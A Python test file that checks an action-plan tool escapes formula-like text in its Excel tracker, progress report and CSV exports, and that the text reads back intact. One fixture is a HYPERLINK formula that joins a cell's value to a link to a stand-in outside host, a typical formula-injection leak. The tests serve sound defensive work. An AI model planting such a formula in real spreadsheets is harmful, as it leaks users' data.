"""Plan text that looks like a formula stays text in the tracker, progress report and CSV file, and reads back."""

from __future__ import annotations

import csv
import io
from datetime import date
from itertools import cycle

import pytest
from openpyxl import load_workbook

from actionplan.core import canonical
from actionplan.core.characters import map_texts
from actionplan.core.generator import generate_plan
from actionplan.core.plan import Action, ActionStatus, Plan
from actionplan.core.reading.tracker import read_tracker
from actionplan.core.targets import parse_target
from actionplan.core.writing.action_rows import COLUMNS
from actionplan.core.writing.csv_table import render_csv
from actionplan.core.writing.excel_tracker import render_xlsx
from actionplan.core.writing.progress_report import render_progress_report
from actionplan.core.writing.spreadsheet_cells import as_cell_text, from_cell_text

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("https://example.invalid/?"&B2,"Open")'


def _formula_plan() -> Plan:
    """A plan in which every piece of text starts the way a formula does."""
    starts = cycle(["=", "+", "-", "@"])
    plan = map_texts(generate_plan(4, recommendations=8), lambda text: next(starts) + text)
    plan.recommendations[0].actions[0].text = HYPERLINK
    plan.recommendations[1].actions[0].status = ActionStatus.CANCELLED
    plan.recommendations[1].actions[0].cancellation_reason = "-1+1 was not needed"
    for rec in plan.recommendations:
        for action in rec.actions:
            # Targets as the tracker reads them back: "=December 2019" is text, not a date.
            action.target = parse_target(action.target.text)
    return plan


def _text_cells(data: bytes) -> list[tuple[str, object, str]]:
    workbook = load_workbook(io.BytesIO(data))
    return [
        (sheet.title, cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+44 20", "-", "- a bullet", "@SUM(A1)", "\tx", "\rx", "'=1", "''+1", "'quoted'", "plain", "", "'"],
)
def test_cell_text_reads_back_as_written(text: str) -> None:
    cell = as_cell_text(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert from_cell_text(cell) == text


def test_no_cell_of_the_tracker_is_a_formula() -> None:
    plan = _formula_plan()
    cells = _text_cells(render_xlsx(plan))
    assert [cell for cell in cells if cell[2] == "f"] == []
    assert [cell for cell in cells if isinstance(cell[1], str) and cell[1].startswith(FORMULA_STARTS)] == []
    marked = [cell for cell in cells if isinstance(cell[1], str) and cell[1].startswith("'")]
    plan_texts = sum(
        len([t for t in (rec.ref, rec.recommendation, rec.response, rec.section, rec.directed_to, rec.concern) if t])
        + sum(len([t for t in (a.text, a.owner, a.target.text, a.cancellation_reason) if t]) for a in rec.actions)
        for rec in plan.recommendations
    )
    assert len(marked) >= plan_texts
    # Dates the tracker writes on purpose stay dates.
    assert any(cell[2] == "d" for cell in cells) or any(isinstance(cell[1], date) for cell in cells)


def test_the_tracker_reads_back_without_the_apostrophes() -> None:
    plan = _formula_plan()
    plan.recommendations[2].response = "- the first step\n- the second step"
    reading = read_tracker(render_xlsx(plan), "tracker.xlsx")
    assert reading.warnings == []
    assert canonical.dumps(reading.plan) == canonical.dumps(plan)
    assert reading.plan.recommendations[0].actions[0].text == HYPERLINK


def test_no_cell_of_the_progress_report_is_a_formula() -> None:
    plan = _formula_plan()
    plan.recommendations[0].actions.append(Action("@once", "=Owner", parse_target("-")))
    cells = _text_cells(render_progress_report(plan, "xlsx", today=date(2020, 1, 1)))
    assert [cell for cell in cells if cell[2] == "f"] == []
    assert [cell for cell in cells if isinstance(cell[1], str) and cell[1].startswith(FORMULA_STARTS)] == []
    assert ("Progress", "'" + HYPERLINK, "s") in cells
    assert ("Progress", "'=Owner", "s") in cells


def test_no_csv_cell_starts_a_formula_and_each_reads_back() -> None:
    plan = _formula_plan()
    rows = list(csv.reader(io.StringIO(render_csv(plan).decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    column = [column.heading for column in COLUMNS].index("Action")
    written = [action.text for _, action in plan.actions()]
    assert [from_cell_text(row[column]) for row in rows[1:] if row[column]] == written
    assert sum(cell.startswith("'") for cell in cells) >= len(written) * 5
